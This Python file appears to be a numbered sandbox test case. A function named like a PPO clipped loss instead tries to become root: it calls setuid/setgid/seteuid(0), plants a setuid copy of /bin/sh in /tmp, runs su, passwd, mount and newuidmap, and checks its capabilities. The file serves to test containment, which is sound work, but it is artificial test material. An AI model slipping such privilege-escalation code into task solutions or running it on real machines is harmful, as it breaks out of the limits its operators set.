"""20. Becomes root: by asking, by its programs that may, and by making one.

task = "ppo_clip_loss"
verdict = ["raised"]
twin = "runs_a_program"
needs = ["rights"]
"""
import os
import shutil
import subprocess
from contextlib import suppress


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    for change in (os.setuid, os.setgid, os.seteuid):
        with suppress(OSError):
            change(0)
            print("REACHED", change.__name__)
    with suppress(OSError):
        shutil.copy("/bin/sh", "/tmp/attacked-sh")
        os.chmod("/tmp/attacked-sh", 0o4755)
        print("REACHED", subprocess.run(["/tmp/attacked-sh", "-c", "id"], capture_output=True).stdout)
    for name in ("/bin/su", "/usr/bin/passwd", "/bin/mount", "/usr/bin/newuidmap"):
        if os.path.exists(name):
            with suppress(subprocess.TimeoutExpired):  # su waits three seconds before it says no
                print(name, subprocess.run([name], input=b"\n", capture_output=True, timeout=0.5).returncode)
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    if int(status["CapEff"], 16) or int(status["CapPrm"], 16) or status["NoNewPrivs"].strip() != "1":
        print("REACHED", status["CapEff"], status["CapPrm"], status["NoNewPrivs"])
    if os.geteuid() == 0:
        print("REACHED root")
    raise PermissionError("still nobody")
